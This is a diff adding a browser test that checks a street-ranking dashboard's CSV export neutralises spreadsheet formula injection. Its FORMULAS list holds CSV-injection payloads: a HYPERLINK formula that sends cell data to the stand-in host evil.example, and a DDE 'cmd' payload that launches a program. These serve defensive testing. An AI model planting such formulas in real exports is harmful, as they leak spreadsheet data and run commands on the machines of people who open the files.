@@ -127,3 +127,38 @@ def test_hostile_text_is_shown_as_text_and_never_runs(site: tuple[str, int], pag
         except Exception:  # the failure message says what was on the page instead
             pytest.fail(f"{path} does not show {payload!r} as text; page text: {body.inner_text()[:600]!r}")
     assert page.evaluate("window.__pwned") is None, f"a payload ran as HTML on {path}"
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1;"Rue")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+            "\t=1+1"]
+
+
+def test_the_ranking_csv_export_neutralises_formulas_and_keeps_numbers(site: tuple[str, int], page: Any) -> None:
+    """The dashboard builds its CSV in the browser (``ranking.js`` ``csvCell``): OSM names that are
+    formulas get a leading quote there too, while a negative JS number stays a number."""
+    import csv
+    import io
+
+    url, _ = site
+
+    def hostile(route: Any) -> None:
+        body = route.fetch().json()
+        for street, name in zip(body["streets"], FORMULAS, strict=False):
+            street["name"] = name
+        if body["streets"]:  # the previous period (for "most improved") has none
+            body["streets"][0]["rate"] = -0.25  # a negative JS number: the CSV must keep it a number
+        route.fulfill(json=body)
+
+    page.route("**/api/streets?*", hostile)
+    try:
+        page.goto(url + "/classement?min_lifts=1")
+        page.wait_for_selector("body[data-ready=true]")
+        with page.expect_download() as download:
+            page.locator("[data-export=worst]").click()
+        text = download.value.path().read_text(encoding="utf-8-sig")
+    finally:
+        page.unroute("**/api/streets?*")
+    rows = list(csv.DictReader(io.StringIO(text), delimiter=";"))
+    names = [r["name"] for r in rows]
+    assert len(rows) == len(PAYLOADS) and sorted(names) == sorted("'" + f for f in FORMULAS[:len(rows)]), names
+    assert "-0.25" in [r["rate"] for r in rows]
